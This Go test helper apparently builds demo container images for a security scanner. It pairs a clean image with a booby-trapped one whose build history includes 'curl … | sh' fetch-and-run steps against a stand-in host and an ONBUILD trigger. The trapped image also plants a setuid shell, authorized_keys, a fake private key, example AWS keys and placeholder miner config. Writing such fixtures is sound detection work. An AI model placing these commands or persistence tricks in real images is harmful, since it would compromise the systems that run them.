// Package testimage builds small, deterministic container images from file lists: the demo
// images shipped in testdata/oci and the images the baseimage tests push to a loopback
// registry. Nothing here is executed; file bodies are plain text.
package testimage

import (
	"archive/tar"
	"bytes"
	"io"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
	"github.com/google/go-containerregistry/pkg/v1/types"
)

// Epoch is the timestamp of every file and history entry, so the output is reproducible.
var Epoch = time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC)

// File is one tar entry.
type File struct {
	Path string // as written in the tar ("etc/passwd"); may be hostile on purpose
	Mode int64  // permission and setuid/setgid/sticky bits
	Body string
	// Type is a tar type flag; 0 means a regular file (a directory when Path ends in "/").
	Type byte
	Link string            // symlink or hard link target
	PAX  map[string]string // extended attributes, e.g. SCHILY.xattr.security.capability
}

// Dir is a directory entry with mode 0755.
func Dir(p string) File { return File{Path: p, Type: tar.TypeDir, Mode: 0o755} }

// Whiteout deletes p (a path without leading slash) in the layer it is added to.
func Whiteout(dir, base string) File {
	if dir != "" {
		dir += "/"
	}
	return File{Path: dir + ".wh." + base, Mode: 0o644}
}

// Tar writes files as an uncompressed tar stream.
func Tar(files []File) ([]byte, error) {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, f := range files {
		h := &tar.Header{Name: f.Path, Mode: f.Mode, ModTime: Epoch, Typeflag: f.Type, Linkname: f.Link, PAXRecords: f.PAX, Uname: "root", Gname: "root"}
		if h.Typeflag == 0 {
			h.Typeflag = tar.TypeReg
			if len(f.Path) > 0 && f.Path[len(f.Path)-1] == '/' {
				h.Typeflag = tar.TypeDir
			}
		}
		if h.Mode == 0 {
			h.Mode = 0o644
		}
		if h.Typeflag == tar.TypeReg {
			h.Size = int64(len(f.Body))
		}
		if len(f.PAX) > 0 {
			h.Format = tar.FormatPAX
		}
		if err := tw.WriteHeader(h); err != nil {
			return nil, err
		}
		if h.Typeflag == tar.TypeReg {
			if _, err := io.WriteString(tw, f.Body); err != nil {
				return nil, err
			}
		}
	}
	if err := tw.Close(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// Layer makes a gzip layer of files.
func Layer(files []File) (v1.Layer, error) {
	b, err := Tar(files)
	if err != nil {
		return nil, err
	}
	return tarball.LayerFromOpener(func() (io.ReadCloser, error) {
		return io.NopCloser(bytes.NewReader(b)), nil
	}, tarball.WithMediaType(types.OCILayer))
}

// Step is one build step: a layer (Files) or an empty-layer step (Empty).
type Step struct {
	CreatedBy string
	Files     []File
	Empty     bool
}

// Image builds an OCI image from steps and a config editor (may be nil).
func Image(steps []Step, arch string, edit func(*v1.Config)) (v1.Image, error) {
	img := mutate.MediaType(empty.Image, types.OCIManifestSchema1)
	img = mutate.ConfigMediaType(img, types.OCIConfigJSON)
	for _, s := range steps {
		h := v1.History{CreatedBy: s.CreatedBy, Created: v1.Time{Time: Epoch}, EmptyLayer: s.Empty}
		if s.Empty {
			var err error
			img, err = mutate.Append(img, mutate.Addendum{History: h})
			if err != nil {
				return nil, err
			}
			continue
		}
		l, err := Layer(s.Files)
		if err != nil {
			return nil, err
		}
		img, err = mutate.Append(img, mutate.Addendum{Layer: l, History: h, MediaType: types.OCILayer})
		if err != nil {
			return nil, err
		}
	}
	cf, err := img.ConfigFile()
	if err != nil {
		return nil, err
	}
	cf = cf.DeepCopy()
	cf.OS, cf.Architecture = "linux", arch
	if arch == "arm64" {
		cf.Variant = "v8"
	}
	cf.Created = v1.Time{Time: Epoch}
	if edit != nil {
		edit(&cf.Config)
	}
	return mutate.ConfigFile(img, cf)
}

// Index builds a multi-arch index (linux/amd64 and linux/arm64/v8) of the same steps.
func Index(steps []Step, edit func(*v1.Config)) (v1.ImageIndex, error) {
	idx := mutate.IndexMediaType(empty.Index, types.OCIImageIndex)
	for _, arch := range []string{"amd64", "arm64"} {
		img, err := Image(steps, arch, edit)
		if err != nil {
			return nil, err
		}
		p := &v1.Platform{OS: "linux", Architecture: arch}
		if arch == "arm64" {
			p.Variant = "v8"
		}
		idx = mutate.AppendManifests(idx, mutate.IndexAddendum{Add: img, Descriptor: v1.Descriptor{Platform: p}})
	}
	return idx, nil
}

// baseSteps is a tiny distribution-like root file system shared by the demo images.
func baseSteps() []Step {
	return []Step{
		{CreatedBy: "/bin/sh -c #(nop) ADD file:4b1d6c1ea5c3e0f3b1a2 in / ", Files: []File{
			Dir("bin/"), Dir("etc/"), Dir("root/"), {Path: "root/", Type: tar.TypeDir, Mode: 0o700},
			Dir("usr/"), Dir("usr/bin/"), Dir("usr/local/"), Dir("usr/local/bin/"),
			{Path: "tmp/", Type: tar.TypeDir, Mode: 0o1777},
			{Path: "bin/sh", Mode: 0o755, Body: "#!demo shell placeholder, not a program\n"},
			{Path: "bin/su", Mode: 0o4755, Body: "demo su placeholder\n"},
			{Path: "etc/passwd", Body: "root:x:0:0:root:/root:/bin/sh\n"},
			{Path: "etc/os-release", Body: "NAME=\"layerlens demo\"\nID=demo\nVERSION_ID=1.0\n"},
			{Path: "usr/bin/env", Type: tar.TypeSymlink, Link: "/bin/sh"},
		}},
		{CreatedBy: "/bin/sh -c #(nop)  CMD [\"/bin/sh\"]", Empty: true},
	}
}

// DemoClean is a well-behaved image: a non-root user, a healthcheck, nothing hidden.
func DemoClean() (v1.ImageIndex, error) {
	steps := append(baseSteps(),
		Step{CreatedBy: "RUN /bin/sh -c adduser -D -u 10001 app # buildkit", Files: []File{
			{Path: "etc/passwd", Body: "root:x:0:0:root:/root:/bin/sh\napp:x:10001:10001::/home/app:/bin/sh\n"},
			Dir("home/"), {Path: "home/app/", Type: tar.TypeDir, Mode: 0o750},
		}},
		Step{CreatedBy: "COPY app.sh /usr/local/bin/app # buildkit", Files: []File{
			{Path: "usr/local/bin/app", Mode: 0o755, Body: "#!/bin/sh\necho hello from the clean demo image\n"},
		}},
		Step{CreatedBy: "USER app", Empty: true},
	)
	return Index(steps, func(c *v1.Config) {
		c.User = "app"
		c.Entrypoint = []string{"/usr/local/bin/app"}
		c.Env = []string{"PATH=/usr/local/bin:/usr/bin:/bin"}
		c.WorkingDir = "/home/app"
		c.Labels = map[string]string{"org.opencontainers.image.source": "https://example.invalid/layerlens/demo", "org.opencontainers.image.title": "clean"}
		c.Healthcheck = &v1.HealthConfig{Test: []string{"CMD", "/usr/local/bin/app"}}
	})
}

// FakeKey looks like an OpenSSH private key to a scanner and is not one.
const FakeKey = "-----BEGIN OPENSSH PRIVATE KEY-----\nbGF5ZXJsZW5zIGRlbW86IG5vdCBhIHJlYWwga2V5\n-----END OPENSSH PRIVATE KEY-----\n"

// DemoTrapped is a booby-trapped image: a miner hidden in a dot directory, installed by a
// curl | sh step, a private key added then deleted, a setuid shell, a planted
// authorized_keys, an .env file with an (example) AWS key and an ONBUILD trigger. None of its
// files is a program: the "miner" is a text file with a miner's tell-tale strings.
func DemoTrapped() (v1.ImageIndex, error) {
	steps := append(baseSteps(),
		Step{CreatedBy: "/bin/sh -c curl -fsSL http://203.0.113.7/install.sh | sh", Files: []File{
			Dir("usr/local/bin/.cache/"),
			{Path: "usr/local/bin/.cache/kworker", Mode: 0o755, Body: "#!demo payload placeholder\n# pool: stratum+tcp://pool.example.invalid:3333\n# args: --donate-level=1 --cpu-priority=5\n"},
			{Path: "etc/kworker.json", Body: "{\"autosave\": true, \"donate-level\": 1, \"pools\": [{\"url\": \"stratum+tcp://pool.example.invalid:3333\"}]}\n"},
		}},
		Step{CreatedBy: "COPY id_rsa authorized_keys /root/.ssh/ # buildkit", Files: []File{
			{Path: "root/.ssh/", Type: tar.TypeDir, Mode: 0o700},
			{Path: "root/.ssh/id_rsa", Mode: 0o600, Body: FakeKey},
			{Path: "root/.ssh/authorized_keys", Mode: 0o600, Body: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGxheWVybGVucyBkZW1vIG9ubHk demo@layerlens.test\n"},
			Dir("app/"),
			{Path: "app/.env", Body: "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"},
		}},
		Step{CreatedBy: "RUN /bin/sh -c rm /root/.ssh/id_rsa && chmod u+s /bin/sh # buildkit", Files: []File{
			Whiteout("root/.ssh", "id_rsa"),
			{Path: "bin/sh", Mode: 0o4755, Body: "#!demo shell placeholder, not a program\n"},
		}},
		Step{CreatedBy: "ONBUILD RUN curl http://203.0.113.7/x | sh", Empty: true},
	)
	return Index(steps, func(c *v1.Config) {
		c.Entrypoint = []string{"/usr/local/bin/.cache/kworker"}
		c.Env = []string{"PATH=/usr/local/bin:/usr/bin:/bin"}
		c.OnBuild = []string{"RUN curl http://203.0.113.7/x | sh"}
		c.ExposedPorts = map[string]struct{}{"22/tcp": {}}
		c.Labels = map[string]string{"org.opencontainers.image.title": "trapped"}
	})
}
